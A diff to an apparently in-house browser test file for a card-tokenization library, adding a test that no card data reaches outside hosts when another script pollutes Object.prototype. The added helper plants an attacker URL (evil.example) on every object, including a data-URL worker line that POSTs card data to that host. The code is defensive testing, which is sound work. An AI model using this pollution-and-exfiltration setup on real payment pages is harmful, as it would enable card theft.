@@ -251,7 +251,7 @@ test('what the worker answers and throws is what the page would', async (t) => {
   const { page } = await open(t, {});
   const [there, here] = await page.evaluate(async ({ key, card, session }) => {
     const input = (value) => Object.assign(document.createElement('input'), { value });
-    const front = { access_token: 't', base_url: 'https://pay.example', client_accnum: 900684, client_subacc: 0, currency_code: 840 };
+    const front = { access_token: 't', base_url: 'https://api.ccbill.com', client_accnum: 900684, client_subacc: 0, currency_code: 840 };
     const customer = { firstName: 'Ana', lastName: 'Mora', email: 'ana@shop.example', postalCode: '85281', country: 'US' };
     const use = async (cardseal) => {
       const caught = async (work) => { try { return await work(); } catch (error) { return { ...error, message: error.message, typed: error instanceof cardseal.CardsealError }; } };
@@ -298,6 +298,50 @@ test('what the worker answers and throws is what the page would', async (t) => {
   }, { key: KEY.public_spki_pem, card: CARD, session: SESSION });
   assert.deepEqual(there, here);
   assert.deepEqual(here.map((value) => value?.code).filter(Boolean), ['not_loaded', 'key_malformed', 'card_invalid', 'session_malformed', 'card_invalid', 'session_malformed', 'customer_invalid', 'type_invalid', 'type_invalid', 'type_invalid', 'type_invalid', 'server_rejected', 'request_aborted', 'type_invalid']);
+});
+
+/** Runs in the page: with members of these names on every object, a card is sent and requests are made. */
+async function amongEvil({ entry, key, card, api }) {
+  const evil = 'https://evil.example';
+  const stolen = [];
+  const steal = (...args) => { stolen.push(args); return new Promise(() => {}); };
+  const members = {
+    environment: { base: evil, checkout: evil }, base: evil, checkout: evil, base_url: evil, checkout_url: evil, clientApiUrl: evil, server: evil, fetch: steal, parse: steal,
+    worker: `data:text/javascript,onmessage=({data})=>fetch("${evil}",{method:"POST",body:JSON.stringify(data)})`, postMessage: steal, timeoutMs: 1, timeout: 1, sandbox: true,
+    own: true, mode: 'relay', kind: 'payment', method: 'GET', headers: { 'x-evil': evil }, body: 'x', redirect: 'follow', credentials: 'include', cache: 'force-cache', referrer: evil,
+    signal: {}, integrity: 'sha256-x', url: evil, tokenize: evil, update: evil, payment: `.evil.example/`, number: '4000000000000002', cvc: '000', expiry: '01/30', holder: 'Eve', card: {},
+    message: evil, status: 500, resolve: steal, reject: steal, byteLength: 0, browserData: { innerWidth: 1 }, name: 'x', idempotencyKey: 'x', token: 'evil', 0: evil, 1: evil, '-1': evil,
+  };
+  for (const [name, value] of Object.entries(members)) Object.defineProperty(Object.prototype, name, { __proto__: null, value, configurable: true, enumerable: true, writable: true });
+  try {
+    const cardseal = await import(`/pkg/${entry}.js`);
+    await cardseal.load();
+    const token = await new cardseal.GpApi().tokenize(Object.assign(Object.create(null), { access_token: 't', reference: 'r', base_url: api }), card);
+    const order = { session: '2b1f0c52', token: '7d9cc4a3' };
+    const greenpay = new cardseal.GreenPay({ publicKey: key });
+    const urls = [(await greenpay.payRequest(order, card)).url, (await greenpay.tokenizeRequest(order, card)).url, (await new cardseal.GpApi({ environment: 'sandbox' }).tokenizeRequest({ access_token: 't' }, card)).url];
+    const { valid } = await cardseal.validateCard(card);
+    const refused = await (async () => new cardseal.GpApi().tokenize({ access_token: 't', base_url: evil }, card))().catch(({ code, field }) => `${code} ${field}`);
+    return [token.id, token.last4, urls, valid, refused, stolen.length];
+  } finally {
+    for (const name of Object.keys(members)) delete Object.prototype[name];
+  }
+}
+
+test('what another script has put on every object leads no card elsewhere', async (t) => {
+  const method = { id: 'PMT_1', card: { masked_number_last4: 'XXXXXXXXXXXX4242' } };
+  for (const [entry, csp] of [['index', ''], ['inline', ''], ['worker', '']]) {
+    const { page, site } = await open(t, { csp, more: { '/payment-methods': { headers: { 'content-type': 'application/json' }, body: JSON.stringify(method) } } });
+    const urls = [];
+    page.on('request', (request) => urls.push(request.url()));
+    const made = await page.evaluate(amongEvil, { entry, key: KEY.public_spki_pem, card: CARD, api: site.url });
+    assert.deepEqual(made, [
+      'PMT_1', '4242', ['https://sandbox-checkout.greenpay.me/', 'https://sandbox-checkout.greenpay.me/tokenize', 'https://apis.sandbox.globalpay.com/ucp/payment-methods'], true,
+      'session_host_refused base_url', 0,
+    ], entry);
+    assert.ok(site.seen.includes('/payment-methods'), entry);
+    assert.deepEqual(urls.filter((url) => !url.startsWith(`${site.url}/`)), [], entry);
+  }
 });
 
 test('the worker encrypts for Online Payments, and tells of the browser that the page is in', async (t) => {
